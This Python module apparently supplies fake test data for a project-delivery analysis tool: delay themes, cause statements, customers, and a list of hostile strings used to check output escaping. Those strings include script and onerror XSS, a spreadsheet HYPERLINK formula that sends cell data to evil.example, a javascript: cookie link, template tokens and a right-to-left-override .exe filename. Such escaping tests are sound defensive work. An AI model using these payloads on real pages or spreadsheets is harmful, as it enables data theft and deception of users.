"""The words of the fake edition: what was written, by whom it was suffered, and what is hostile."""

from __future__ import annotations

#: Theme key (or proposed id) → name, definition, status, keyphrases.
THEMES: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    "environment_access": (
        "Environment and access",
        "Environments, accounts, licences or network access were late or wrong",
        "active",
        ("VPN account", "test environment", "firewall rule", "access request"),
    ),
    "third_party_failure": (
        "Third-party failure",
        "A supplier, partner or product outside both parties did not deliver",
        "active",
        ("supplier", "connector release", "subcontractor"),
    ),
    "estimation_error": (
        "Estimation error",
        "Effort, duration or complexity was undersized",
        "active",
        ("effort", "sizing", "contingency"),
    ),
    "sow_ambiguity": (
        "SOW ambiguity",
        "Scope, deliverables or acceptance in the statement of work can be read in two ways",
        "active",
        ("acceptance criteria", "statement of work", "in scope"),
    ),
    "weak_requirements": (
        "Weak requirements",
        "Needs were missing, vague, contradictory or found too late",
        "active",
        ("requirements", "workshop", "business rule"),
    ),
    "key_person_loss": (
        "Key person loss",
        "Knowledge or authority left with one person",
        "active",
        ("lead architect", "replacement", "left the project"),
    ),
    "underpricing": (
        "Underpricing",
        "Price, hours or contingency were cut to win the deal",
        "active",
        (),
    ),
    "badge": (
        "badge printer, label stock, reprint",
        "Proposed from 4 similar statements that no known theme explains",
        "proposed",
        ("badge printer", "label stock", "reprint"),
    ),
    "fiscal": (
        "<b>fiscal</b> calendar, period 13 & close",
        "Proposed from 2 similar statements that no known theme explains",
        "proposed",
        ("fiscal calendar", "period 13", "close <script>"),
    ),
}

#: Theme key → causes as people write them; documents take them in turn.
CAUSES: dict[str, tuple[str, ...]] = {
    "environment_access": (
        "Cust still waiting on VPN accounts, 9 days after kick-off.",
        "The test environment was rebuilt twice and nobody had admin rights on it.",
        "Firewall rules for the payroll interface were requested in week 6 and opened in week 11.",
        "Accounts for the ward tablets were issued only after go-live.",
        "Licences for the scheduler were ordered against the wrong tenant.",
        "Our build agents had no route to the client's artefact store until sprint 5.",
        "Access requests went through three ticket queues, none of which owned them.",
    ),
    "third_party_failure": (
        "The connector supplier shipped its March release in May without telling either party.",
        "The subcontractor for data cleansing withdrew two weeks before the rehearsal.",
        "The carrier cancelled the line order and no second source was named.",
        "A patch from the database vendor broke the nightly export and took 16 days to fix.",
        "The hosting partner moved the cut-over window without notice.",
    ),
    "estimation_error": (
        "Migration of the 4,200 custom reports was sized as if they were standard ones.",
        "The estimate had no line for regression testing, which took 310 hours.",
        "Effort was copied from a project a third of this size.",
        "Nobody added contingency although two interfaces were unknown at the time.",
        "Interface work took three times what the calculation sheet said.",
    ),
    "sow_ambiguity": (
        "Acceptance was defined as \u201cto the client's satisfaction\u201d and nothing else.",
        "The statement of work names training but not how many people or sites.",
        "Both sides read \u201chistorical data\u201d differently: two years or eleven.",
        "The annex lists five interfaces, the proposal seven.",
    ),
    "weak_requirements": (
        "The rule for part-time pensions surfaced in the last week of user testing.",
        "Requirements were signed off by people who do not run the process.",
        "No one asked the night shift how orders are really corrected.",
    ),
    "key_person_loss": (
        "The lead architect left and took the only full picture of the interfaces along.",
        "All decisions waited for one product owner who was on leave for five weeks.",
    ),
    "badge": (
        "Badge printer label stock ran out on the first morning and each reprint took an hour.",
        "Label stock of the badge printer at gate 4 did not fit the new template.",
        "Badges had to be reprinted because the printer profile was lost.",
    ),
    "fiscal": (
        "The fiscal calendar has a period 13 that no interface knew about.",
        "Period 13 postings were rejected at year-end close.",
    ),
    "": (
        "We do not know yet why the job stopped.",
        "Several small things came together that week.",
    ),
}

#: One code a document in order of time, five a quarter; the first is the oldest.
PLAN = "STEK- TTSW- ETKSP TETW- TSKE- EWTA- ASETP WAEAF AESA- AWAAF ASAEP AAWA-".replace(" ", "")

#: Codes of ``PLAN``.
CODES = {
    "A": "environment_access",
    "T": "third_party_failure",
    "E": "estimation_error",
    "S": "sow_ambiguity",
    "W": "weak_requirements",
    "K": "key_person_loss",
    "P": "badge",
    "F": "fiscal",
    "-": "",
}

#: Position in ``PLAN`` → text put before the cause. None of it may reach a reader as markup.
HOSTILE: dict[int, str] = {
    3: "<script>alert('pwned')</script>",
    11: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    17: "<img src=x onerror=alert(1)> </style></script><style>body{display:none}</style>",
    28: "See [minutes](javascript:alert(document.cookie)) {{ config }} {% raw %}",
    36: "invoice_\u202efdp.exe was attached",
    41: "W" + "o" * 400 + "rd",
    46: "Zoë wrote: 🧯 cafe\u0301 is down\r\nsee bell\x07 and ]]> &amp; <!--",
    52: "\u05e9\u05dc\u05d5\u05dd \u2067mixed\u2069 direction",
}

#: Canonical customer names with segment and region.
CUSTOMERS: tuple[tuple[str, str | None, str | None], ...] = (
    ("Northwind Rail", "Transport", "EMEA"),
    ("Halden Water", "Utilities", "EMEA"),
    ("Castellan Insurance", "Insurance", "EMEA"),
    ("Pacific Lumber Group", "Manufacturing", "Americas"),
    ("Meridian Health Trust", "Health", "EMEA"),
    ("O'Brien & <b>Sons</b>", "Manufacturing", "Americas"),
    ("Kestrel Airways", "Transport", "APAC"),
    ("Sable Retail", None, "APAC"),
    ("Tarn Valley Council", "Public sector", None),
)

ENGAGEMENT_TYPES = ("Cloud migration", "ERP rollout", "Managed service", "Integration")
BILLING = ("Fixed price", "Time and materials", None)
TEAMS = ("Atlas", "Boreas", "Cirrus")
PHASES = ("Design", "Build", "Test", "Run", None)
SEVERITIES = ("Sev 1", "Sev 2", "Sev 3", None)
